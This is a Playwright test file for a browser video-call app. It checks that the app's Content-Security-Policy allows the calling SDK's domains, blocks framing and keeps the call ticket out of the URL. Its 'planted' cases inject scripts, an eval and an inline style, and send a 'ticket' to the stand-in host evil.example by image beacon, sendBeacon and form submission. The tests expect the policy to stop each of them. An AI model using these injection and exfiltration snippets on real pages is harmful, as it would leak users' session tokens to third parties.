/** The page under the headers it is published with: all of it works, and nothing besides runs. */
import { readFileSync } from 'node:fs';
import type { Page } from 'playwright-core';
import { pageHeaders } from '../../config/page-headers';
import { resolveInstalled } from '../../tools/simulator/load/resolve';
import { HEARD_VOLUME, openPhonesBeside, type PhonesBeside } from '../support/browser/app/phones';
import type { Traces } from '../support/browser/app/surroundings';
import { serve } from '../support/browser/app/site';
import type { Tab } from '../support/browser/app/tab';
import { openBrowserWorld, ROOM, type BrowserWorld } from '../support/browser/app/world';
import { expectTrouble, REFUSED } from '../support/browser/troubles';
import { distOf, SETTINGS } from '../support/build';

let world: BrowserWorld;
let beside: PhonesBeside;

beforeAll(async () => {
  world = await openBrowserWorld();
  beside = await openPhonesBeside(world);
}, 60_000);
afterEach(async () => {
  await beside.clear();
  await world.clear();
});
afterAll(async () => {
  await beside.close();
  await world.close();
});

interface Watched {
  violations: string[];
}

/** A tab that notes whatever the policy stops. */
async function watchedTab(tone: number): Promise<Tab> {
  const tab = await world.tab({ tone });
  await tab.context.addInitScript(() => {
    const violations: string[] = [];
    Object.assign(window, { violations });
    document.addEventListener('securitypolicyviolation', (event) => {
      violations.push(`${event.effectiveDirective} ${event.blockedURI}`);
    });
  });
  await tab.page.reload();
  return tab;
}

const violations = ({ page }: Tab) =>
  page.evaluate(() => (window as unknown as Watched).violations);

/** Its tone comes in bursts, beside that of the other tab. */
const untilHearsTwo = (tab: Tab) =>
  tab.until(
    () => tab.heard(),
    (heard) => heard.filter(({ level }) => level > 0.02).length === 2,
    40_000,
  );

test('two tabs and a phone talk, and it stops nothing', async () => {
  expectTrouble('A guest asks for a ticket, which is not theirs to give.', REFUSED);
  const ann = await watchedTab(440);
  await ann.tapJoin('Ann');
  const bob = await watchedTab(880);
  await bob.tapJoin('Bob');
  await Promise.all([ann.untilHears([880]), bob.untilHears([440])]);
  const carl = await beside.phone('Carl', ROOM);
  await carl.tap('#join');
  await carl.waitFor('#room-state', 'In call');
  await Promise.all([untilHearsTwo(ann), untilHearsTwo(bob)]);
  await carl.until(
    () => carl.players(),
    (players) => players.length === 2 && players.every(({ volume }) => volume > HEARD_VOLUME),
    { timeout: 30_000 },
  );

  // What is seen only then: the sheets, the words when a call is over.
  await ann.page.click('#open-invite');
  await ann.page.locator('.sheet__close').first().click();
  await ann.page.click('#hang-up');
  await ann.page.locator('#join').waitFor();
  expect(await violations(ann)).toEqual([]);
  expect(await violations(bob)).toEqual([]);

  // The tests' page asks a cloud of this machine: the hosts that it would ask are allowed, too.
  const asked = await bob.page.evaluate(() => (window as unknown as Traces).askedOrigins);
  expect(new Set(asked).size).toBeGreaterThan(2);
  expect([...new Set(asked)].filter((origin) => !mayBeAsked(origin))).toEqual([]);
}, 180_000);

test('every domain that the SDK has within it may be asked', () => {
  const sdk = readFileSync(resolveInstalled('zego-express-engine-webrtc'), 'utf8');
  const found = sdk.match(/\b(?:cool[a-z]cloud\.com|zegocloud\.com|zego\.im)\b/g) ?? [];
  const domains = [...new Set(found)];
  expect(domains.length).toBeGreaterThan(4);
  expect(domains.filter((domain) => !mayBeAsked(`wss://a.${domain}`))).toEqual([]);
});

/** Whether the policy as it is published lets the page ask there. */
function mayBeAsked(origin: string): boolean {
  const { TARO_APP_TOKEN_URL, TARO_APP_ZEGO_SERVER } = SETTINGS;
  const headers = pageHeaders({ asked: [TARO_APP_TOKEN_URL, TARO_APP_ZEGO_SERVER] });
  const [, sources = ''] =
    /connect-src ([^;]+)/.exec(headers['Content-Security-Policy'] ?? '') ?? [];
  return sources.split(' ').some((source) => {
    const [scheme, suffix] = source.split('*');
    return suffix ? origin.startsWith(scheme ?? '') && origin.endsWith(suffix) : origin === source;
  });
}

/** Puts an element into the page's head. */
const put = (page: Page, tag: string, properties: Readonly<Record<string, string>>) =>
  page.evaluate(
    ([name, given]) => document.head.append(Object.assign(document.createElement(name), given)),
    [tag, properties] as const,
  );

const planted: readonly [string, RegExp, (page: Page) => Promise<unknown>][] = [
  [
    'a script in the page',
    /^script-src-elem inline$/,
    (page) => put(page, 'script', { textContent: 'window.planted = true' }),
  ],
  [
    'a script of another host',
    /^script-src-elem https:\/\/evil\.example/,
    (page) => put(page, 'script', { src: 'https://evil.example/planted.js' }),
  ],
  [
    'a script in an attribute',
    /^script-src-attr inline$/,
    (page) =>
      page.evaluate(() => {
        document.body.setAttribute('onclick', 'window.planted = true');
        document.body.click();
      }),
  ],
  [
    'text that is run',
    /^script-src eval$/,
    // A task of the page's own: what the test's driver runs itself no policy stops.
    (page) => page.evaluate(() => void setTimeout('window.planted = true')),
  ],
  [
    'a style in the page',
    /^style-src-elem inline$/,
    (page) => put(page, 'style', { textContent: 'body { display: none }' }),
  ],
  [
    'a picture that tells another host',
    /^img-src https:\/\/evil\.example/,
    (page) => page.evaluate(() => void (new Image().src = 'https://evil.example/?ticket')),
  ],
  [
    'a request to another host',
    /^connect-src https:\/\/evil\.example/,
    // Not the page's `fetch`, which the tests send to the cloud.
    (page) => page.evaluate(() => void navigator.sendBeacon('https://evil.example/?ticket')),
  ],
  [
    'a form to another host',
    /^form-action https:\/\/evil\.example/,
    (page) =>
      page.evaluate(() => {
        const form = document.createElement('form');
        form.action = 'https://evil.example/';
        document.body.append(form);
        form.submit();
      }),
  ],
];

test.each(planted)('%s is stopped', async (_, violation, plant) => {
  expectTrouble('It is stopped.', /Content Security Policy|net::ERR_BLOCKED_BY_CSP|csp/);
  const tab = await watchedTab(440);
  await tab.page.locator('#join').waitFor();
  await plant(tab.page);
  const [first] = await tab.until(
    () => violations(tab),
    (found) => found.length > 0,
    10_000,
  );
  expect(first).toMatch(violation);
  expect(await tab.page.evaluate(() => 'planted' in window)).toBe(false);
});

test('no page of another origin shows it in a frame', async () => {
  expectTrouble('It is stopped.', /Content Security Policy|net::ERR_BLOCKED_BY_RESPONSE/);
  const other = await serve(distOf('h5'), {});
  const context = await world.browser.newContext();
  const page = await context.newPage();
  await page.goto(other.url);
  const refused = page.waitForEvent('requestfailed', { timeout: 10_000 });
  await page.evaluate((url) => {
    const frame = document.createElement('iframe');
    frame.src = url;
    document.body.append(frame);
  }, world.site.url);
  expect((await refused).failure()?.errorText).toBe('net::ERR_BLOCKED_BY_RESPONSE');
  await context.close();
  await other.close();
});

test('the ticket leaves the address, and the tab still knows it after a reload', async () => {
  const tab = await world.tab({ tone: 440 });
  const shown = () => tab.page.evaluate(() => [location.href, document.referrer].join());
  await tab.page.locator('#join').waitFor();
  expect(tab.page.url()).toContain(`roomID=${ROOM}`);
  expect(await shown()).not.toContain('ticket');
  await tab.page.reload();
  await tab.tapJoin('Ann');
  await tab.untilState('In call');
  await tab.page.click('#hang-up');
  await tab.page.locator('#join').waitFor();
  expect(await shown()).not.toContain('ticket');
}, 120_000);
